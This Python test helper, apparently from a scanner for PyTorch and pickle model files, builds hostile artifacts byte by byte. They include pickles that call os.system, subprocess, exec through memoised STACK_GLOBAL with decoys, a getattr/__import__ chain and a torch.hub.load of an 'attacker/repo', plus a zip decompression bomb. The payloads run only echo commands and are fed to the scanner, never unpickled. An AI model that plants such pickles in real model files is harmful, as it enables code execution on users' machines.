"""Build hostile and benign artifact bytes at test time, opcode by opcode.

Nothing here is ever unpickled: the payloads call harmless-looking commands but
the tests only hand the bytes to the scanner, which never executes them.
"""

from __future__ import annotations

import io
import pickle
import struct
import tarfile
import zipfile
import zlib

COMMAND = "echo torchreview-test-payload"

PROTO = lambda n: b"\x80" + bytes([n])  # noqa: E731
MARK, STOP, TUPLE, TUPLE1, TUPLE2 = b"(", b".", b"t", b"\x85", b"\x86"
REDUCE, BUILD, NEWOBJ, OBJ = b"R", b"b", b"\x81", b"o"
STACK_GLOBAL, MEMOIZE, EMPTY_DICT, EMPTY_TUPLE, NONE = b"\x93", b"\x94", b"}", b")", b"N"
POP, DUP, SETITEM = b"0", b"2", b"s"


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def inst(module: str, name: str) -> bytes:
    return b"i" + module.encode() + b"\n" + name.encode() + b"\n"


def text0(value: str) -> bytes:
    return b"S'" + value.encode() + b"'\n"


def ustr(value: str) -> bytes:
    data = value.encode()
    if len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def binput(i: int) -> bytes:
    return b"q" + bytes([i])


def binget(i: int) -> bytes:
    return b"h" + bytes([i])


def long_binput(i: int) -> bytes:
    return b"r" + struct.pack("<I", i)


def long_binget(i: int) -> bytes:
    return b"j" + struct.pack("<I", i)


def call(module: str, name: str, *args: str, proto: int = 2) -> bytes:
    """``module.name(*args)`` via GLOBAL + REDUCE."""
    body = glob(module, name) + MARK + b"".join(ustr(a) for a in args) + TUPLE + REDUCE
    return PROTO(proto) + body + STOP


def os_system_reduce() -> bytes:
    return call("os", "system", COMMAND)


def exec_stack_global_memo() -> bytes:
    """builtins.exec built by STACK_GLOBAL from memoised strings, with decoys in between."""
    return (
        PROTO(4)
        + ustr("builtins") + MEMOIZE + POP          # memo 0 = "builtins"
        + ustr("collections") + MEMOIZE + POP       # memo 1 (decoy)
        + ustr("exec") + MEMOIZE + POP              # memo 2 = "exec"
        + ustr("OrderedDict") + MEMOIZE + POP       # memo 3 (decoy)
        + binget(0) + long_binget(2) + STACK_GLOBAL
        + ustr("print('x')") + TUPLE1 + REDUCE + STOP
    )


def protocol0_inst() -> bytes:
    return MARK + text0(COMMAND) + inst("os", "system") + STOP


def protocol0_obj() -> bytes:
    return MARK + glob("subprocess", "check_output") + MARK + text0("echo") + b"l" + OBJ + STOP


def getattr_chain() -> bytes:
    """getattr(getattr(__import__('os'), 'path').__class__ ...) style chain, protocol 2."""
    importer = glob("__builtin__", "__import__") + MARK + ustr("os") + TUPLE + REDUCE
    get_system = glob("__builtin__", "getattr") + MARK + importer + ustr("system") + TUPLE + REDUCE
    return PROTO(2) + get_system + MARK + ustr(COMMAND) + TUPLE + REDUCE + STOP


def torch_hub_load() -> bytes:
    return call("torch.hub", "load", "attacker/repo", "model")


def importlib_import() -> bytes:
    return call("importlib", "import_module", "antigravity")


def benign_dict_pickle(proto: int = 2) -> bytes:
    return pickle.dumps({"weights": [1.0, 2.0], "epoch": 3, "name": "x"}, protocol=proto)


def custom_class_pickle() -> bytes:
    """A whole-object pickle of a user class (by reference; never loaded)."""
    return (
        PROTO(2) + glob("mypackage.models", "Net") + EMPTY_TUPLE + NEWOBJ
        + EMPTY_DICT + ustr("hidden") + b"K\x08" + SETITEM + BUILD + STOP
    )


# -- containers -----------------------------------------------------------------
def zip_bytes(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=compression) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def torch_like_zip(data_pkl: bytes, folder: str = "archive", extra: dict | None = None,
                   compression: int = zipfile.ZIP_STORED) -> bytes:
    members = {
        f"{folder}/data.pkl": data_pkl,
        f"{folder}/byteorder": b"little",
        f"{folder}/data/0": b"\x80\x02" + bytes(64),  # a tensor blob that happens to look like PROTO
        f"{folder}/version": b"3\n",
    }
    members.update(extra or {})
    return zip_bytes(members, compression)


def corrupt_crc(data: bytes) -> bytes:
    """Flip the CRC of every member in both the local and the central headers."""
    out = bytearray(data)
    for sig, at in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        pos = out.find(sig)
        while pos >= 0:
            out[pos + at : pos + at + 4] = bytes(b ^ 0xFF for b in out[pos + at : pos + at + 4])
            pos = out.find(sig, pos + 4)
    return bytes(out)


MAGIC_NUMBER = 0x1950A86A20F9469CFC6C


def legacy_torch_file(second: bytes | None = None, main: bytes | None = None) -> bytes:
    """The legacy (non-zip) torch layout: five pickles, then raw storage bytes."""
    parts = [
        pickle.dumps(MAGIC_NUMBER, protocol=2),
        second if second is not None else pickle.dumps(1001, protocol=2),
        pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2),
        main if main is not None else pickle.dumps({"w": 1}, protocol=2),
        pickle.dumps(["0"], protocol=2),
    ]
    return b"".join(parts) + struct.pack("<q", 2) + bytes(8)


def npy_object(payload: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload


def tar_bytes(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def legacy_tar(main: bytes) -> bytes:
    """torch's pre-zip tar layout with one FloatStorage of two elements."""
    storage_type = PROTO(2) + glob("torch", "FloatStorage")
    record = PROTO(2) + ustr("0") + ustr("cpu") + storage_type[2:] + b"\x87" + STOP
    storages = (
        pickle.dumps(1, protocol=2) + record + struct.pack("<q", 2) + bytes(8)
        + pickle.dumps([], protocol=2)
    )
    tensors = pickle.dumps(0, protocol=2)
    return tar_bytes({
        "sys_info": pickle.dumps({"protocol_version": 1000}, protocol=2),
        "pickle": main, "storages": storages, "tensors": tensors,
    })


def deflate_bomb(size: int) -> bytes:
    """A zip whose single deflated member inflates to ``size`` zero bytes."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = bytes(1024 * 1024)
    body = b"".join(comp.compress(chunk) for _ in range(size // len(chunk))) + comp.flush()
    name = b"archive/data.pkl"
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, len(body), size,
                        len(name), 0) + name
    central = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, 0,
                          len(body), size, len(name), 0, 0, 0, 0, 0, 0) + name
    cd_offset = len(local) + len(body)
    eocd = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(central), cd_offset, 0)
    return local + body + central + eocd


# -- running the scanner under a tripwire ------------------------------------------
class UnpicklingAttempted(AssertionError):
    pass


def _trap(*_args, **_kwargs):
    raise UnpicklingAttempted("the scanner tried to unpickle")


def scan(path, display=None, monkeypatch=None):
    """``scan_file`` with pickle's loaders replaced by a trap (when monkeypatch is given)."""
    from torchreview.artifacts import scan_file

    if monkeypatch is not None:
        import _pickle

        for module in (pickle, _pickle):
            for attr in ("load", "loads", "Unpickler"):
                monkeypatch.setattr(module, attr, _trap)
    return scan_file(str(path), display)


def joblib_like(array_bytes: bytes, dtype: str = "f8", shape: int = 3, after: bytes = b"",
                padding: int = 3) -> bytes:
    """A joblib.dump-style stream: wrapper, BUILD, raw array bytes, then more opcodes."""
    dtype_value = glob("numpy", "dtype") + MARK + ustr(dtype) + b"\x89\x88" + TUPLE + REDUCE
    state = (
        EMPTY_DICT + MARK
        + ustr("shape") + b"K" + bytes([shape]) + TUPLE1
        + ustr("dtype") + dtype_value
        + ustr("numpy_array_alignment_bytes") + b"K\x10"
        + b"u"
    )
    wrapper = glob("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + state + BUILD
    pad = b"" if dtype.startswith("O") else bytes([padding]) + b"\xff" * padding
    return PROTO(4) + EMPTY_DICT + ustr("model") + wrapper + pad + array_bytes + SETITEM + after + STOP


def scan_bytes(tmp_path, monkeypatch, data: bytes, name: str):
    """Write ``data`` to ``tmp_path / name`` and scan it with pickle's loaders trapped."""
    path = tmp_path / name
    path.write_bytes(data)
    return scan(path, None, monkeypatch)


def critical(findings) -> bool:
    """Some TR108 finding is critical (code execution)."""
    from torchreview.findings import Severity

    return any(f.code == "TR108" and f.severity is Severity.CRITICAL for f in findings)
